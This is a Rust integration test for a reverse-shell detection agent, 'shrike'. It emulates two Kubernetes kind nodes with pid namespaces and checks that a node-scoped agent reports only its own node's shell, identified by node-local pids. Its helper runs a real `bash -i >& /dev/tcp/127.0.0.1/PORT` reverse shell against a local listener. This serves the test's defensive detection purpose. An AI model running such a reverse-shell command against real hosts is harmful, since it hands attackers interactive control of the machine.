//! Privileged: two kind nodes emulated on this one kernel. A kind node is a container with its
//! own pid namespace, and the agent runs in it as a hostPID pod; here a node is an
//! `unshare --pid --fork --mount-proc` tree (its own pid namespace and `/proc`), and processes
//! enter it with `nsenter -p -m` as `kubectl exec` or a pod of that node would. The real
//! `shrike run` runs inside node A; a reverse shell runs in node A and another in node B. The
//! agent of node A must report node A's shell with the pid node A knows it by, and nothing of
//! node B; an agent in the initial pid namespace still reports both, with global pids.

use shrike_tests::{agent, common};
use std::{
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use agent::{belongs_to_runner, listen, only_child, AgentSpec};
use common::{marker, privileged};
use serde_json::Value;

const REVERSE_SHELL: &str = "Reverse Shell";

/// The tools this test needs, from util-linux and bash.
const TOOLS: &[&str] = &["unshare", "nsenter", "bash"];

/// True when the tools are there. Missing: a skip, or a failure under CI=true.
fn tools_present(test: &str) -> bool {
    let missing: Vec<&str> = TOOLS
        .iter()
        .copied()
        .filter(|t| !Command::new(t).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|s| s.success()))
        .collect();
    if missing.is_empty() {
        return true;
    }
    if std::env::var("CI").map(|v| v == "true" || v == "1").unwrap_or(false) {
        panic!("{test}: {missing:?} missing and CI=true: a skip is a failure here");
    }
    println!("skipping test - {test}: needs {missing:?}");
    false
}

/// An emulated node: an `unshare` whose only child is the node's init (pid 1 in its own pid
/// namespace, with its own `/proc`). Dropping it kills `unshare` by pid; `--kill-child` then
/// kills the init, and with it every process of the node.
struct Node {
    unshare: Child,
    /// The node's init as the test (initial pid namespace) sees it.
    init: u32,
}

impl Node {
    /// A node whose init runs `script` with `sh -c`, then becomes `sleep`.
    fn start(script: &str) -> Node {
        let unshare = Command::new("unshare")
            .args(["--pid", "--fork", "--mount-proc", "--kill-child", "--", "/bin/sh", "-c"])
            .arg(format!("{script}\nexec sleep 600"))
            .stdin(Stdio::null())
            .spawn()
            .expect("unshare");
        let init = only_child(unshare.id());
        let deadline = Instant::now() + Duration::from_secs(20);
        while std::fs::read_to_string(format!("/proc/{init}/comm")).unwrap_or_default().trim() != "sleep" {
            assert!(Instant::now() < deadline, "node init {init} did not get to sleep");
            std::thread::sleep(Duration::from_millis(10));
        }
        assert_eq!(nspid(init).last(), Some(&1), "the init is pid 1 of its node");
        Node { unshare, init }
    }

    /// `nsenter` into this node's pid and mount namespaces (so `/proc` is the node's).
    fn enter(&self) -> Vec<String> {
        ["nsenter", "-t", &self.init.to_string(), "-p", "-m", "--"].map(String::from).to_vec()
    }
}

impl Drop for Node {
    fn drop(&mut self) {
        // SAFETY: signalling the unshare we started, by its pid.
        unsafe { libc::kill(self.unshare.id() as i32, libc::SIGKILL) };
        let _ = self.unshare.wait();
    }
}

/// The `NSpid` line of a process: its pid in each pid namespace, from the initial one down.
fn nspid(pid: u32) -> Vec<u32> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let line = status.lines().find_map(|l| l.strip_prefix("NSpid:")).unwrap_or_default();
    line.split_whitespace().filter_map(|p| p.parse().ok()).collect()
}

/// A reverse shell that ran in a node.
#[derive(Debug)]
struct Shell {
    /// Its pid in the initial pid namespace.
    global_pid: u32,
    /// Its pid in the node, as the shell itself saw it (`$$`).
    node_pid: u32,
    /// The port it called.
    port: u16,
}

/// Run `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` inside `node` against a listener that sends
/// `id; exit` (after a second, so that the test sees the shell alive); fails unless the shell
/// really answered.
fn reverse_shell_in(node: &Node, dir: &Path, name: &str) -> Shell {
    let l = listen("sleep 1; id; exit\n");
    let pidfile = dir.join(format!("{name}.pid"));
    let script = format!("echo $$ > {}; exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", pidfile.display(), l.port);
    let enter = node.enter();
    let mut child = Command::new(&enter[0])
        .args(&enter[1..])
        .args(["bash", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("nsenter");
    let global_pid = only_child(child.id());
    let ids = nspid(global_pid);
    let got = l.thread.join().unwrap();
    assert!(got.contains("uid="), "{name}: the shell did not answer; the listener got {got:?}");
    agent::reap(&mut child, Duration::from_secs(10));
    let node_pid: u32 = std::fs::read_to_string(&pidfile).unwrap().trim().parse().unwrap();
    assert_eq!(ids, [global_pid, node_pid], "{name}: NSpid of {global_pid} names the pid the shell saw in its node");
    Shell { global_pid, node_pid, port: l.port }
}

fn reverse_shells<'a>(findings: &'a [Value], shell: &Shell, pid: u32) -> Vec<&'a Value> {
    findings
        .iter()
        .filter(|f| f["finding"]["category"] == REVERSE_SHELL)
        .filter(|f| f["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"].as_u64() == Some(u64::from(shell.port)))
        .filter(|f| f["finding"]["processes"][0]["pid"].as_str() == Some(pid.to_string().as_str()))
        .collect()
}

fn spec(name: &str) -> AgentSpec<'_> {
    AgentSpec { name, socket: None, host_scope: true, extra_config: String::new(), args: Vec::new() }
}

/// Poll `agent` until `done` holds for its findings (at most `timeout`).
fn wait_findings(agent: &agent::Agent, timeout: Duration, done: impl Fn(&[Value]) -> bool) {
    let deadline = Instant::now() + timeout;
    while !done(&agent.findings()) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn agent_in_a_kind_node_reports_only_its_node_with_node_pids() {
    let test = "agent_in_a_kind_node_reports_only_its_node_with_node_pids";
    if !privileged(test) || !tools_present(test) {
        return;
    }
    let started = Instant::now();
    let dir: PathBuf = std::env::temp_dir().join(marker("kind"));
    std::fs::create_dir_all(&dir).unwrap();

    let node_a = Node::start(":");
    // Node B first uses up a few hundred pids, so that its shell's pid cannot be node A's.
    let node_b = Node::start("i=0; while [ $i -lt 300 ]; do /bin/true; i=$((i+1)); done");
    let host = agent::start(&dir, &spec("host"));
    let node_enter = node_a.enter();
    let wrapper: Vec<&str> = node_enter.iter().map(String::as_str).collect();
    let in_a = agent::start_in(&dir, &spec("node-a"), &wrapper);
    let agent_ids = nspid(in_a.pid);
    assert_eq!(agent_ids.len(), 2, "the agent runs in node A's pid namespace: {agent_ids:?}");
    let ready_at = started.elapsed();

    let a = reverse_shell_in(&node_a, &dir, "a");
    let b = reverse_shell_in(&node_b, &dir, "b");
    assert_ne!(a.node_pid, b.node_pid);
    let shells_at = started.elapsed();

    // Both agents settle incidents for 1.5 s; the host agent sees both shells.
    wait_findings(&in_a, Duration::from_secs(20), |f| !reverse_shells(f, &a, a.node_pid).is_empty());
    wait_findings(&host, Duration::from_secs(20), |f| {
        !reverse_shells(f, &a, a.global_pid).is_empty() && !reverse_shells(f, &b, b.global_pid).is_empty()
    });
    let found_at = started.elapsed();
    // Give node A's agent the same time again to (wrongly) report node B's shell.
    std::thread::sleep(Duration::from_secs(3));
    let metrics = agent::http_get(&in_a.metrics, "/metrics");
    let host_metrics = agent::http_get(&host.metrics, "/metrics");
    let (findings, log) = in_a.stop();
    let (host_findings, host_log) = host.stop();

    // Node A's agent: node A's shell, known by its node-A pid.
    assert!(log.contains("reporting only this node's processes"), "{log}");
    let got = reverse_shells(&findings, &a, a.node_pid);
    assert_eq!(got.len(), 1, "node A's reverse shell, pid {} in node A: {findings:#?}\n{log}", a.node_pid);
    // Its parent (nsenter) is outside the node: ppid 0, as the node's /proc shows it, so no
    // ancestor is listed (and certainly not nsenter by its global pid).
    let ancestry = &got[0]["finding"]["sourceProperties"]["Process_Ancestry"];
    assert_eq!(ancestry.as_array().map(Vec::len), Some(0), "{ancestry}");
    // Nothing of node B, nothing under a global pid.
    for f in &findings {
        let port = f["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"].as_u64();
        assert_ne!(port, Some(u64::from(b.port)), "node B's shell reported by node A's agent: {f:#}");
        assert!(!belongs_to_runner(f, b.node_pid), "a finding names node B's shell pid {}: {f:#}", b.node_pid);
        assert!(!belongs_to_runner(f, a.global_pid), "a finding names node A's shell by its global pid: {f:#}");
        assert!(belongs_to_runner(f, a.node_pid), "a finding not about node A's shell: {f:#}");
    }
    let dropped = agent::metric(&metrics, "shrike_other_node_dropped_total");
    assert!(dropped > 0.0, "other nodes' records are counted as dropped: {metrics}");

    // The agent in the initial pid namespace: both shells, by their global pids, nothing dropped.
    assert_eq!(reverse_shells(&host_findings, &a, a.global_pid).len(), 1, "{host_findings:#?}\n{host_log}");
    assert_eq!(reverse_shells(&host_findings, &b, b.global_pid).len(), 1, "{host_findings:#?}\n{host_log}");
    assert!(!host_log.contains("reporting only this node's processes"));
    assert_eq!(agent::metric(&host_metrics, "shrike_other_node_dropped_total"), 0.0, "{host_metrics}");

    println!(
        "agents ready {ready_at:?}, shells done {shells_at:?}, findings {found_at:?}, total {:?}; node A agent dropped {dropped} other-node records; shells {a:?} {b:?}",
        started.elapsed()
    );
    drop((node_a, node_b));
    let _ = std::fs::remove_dir_all(&dir);
}
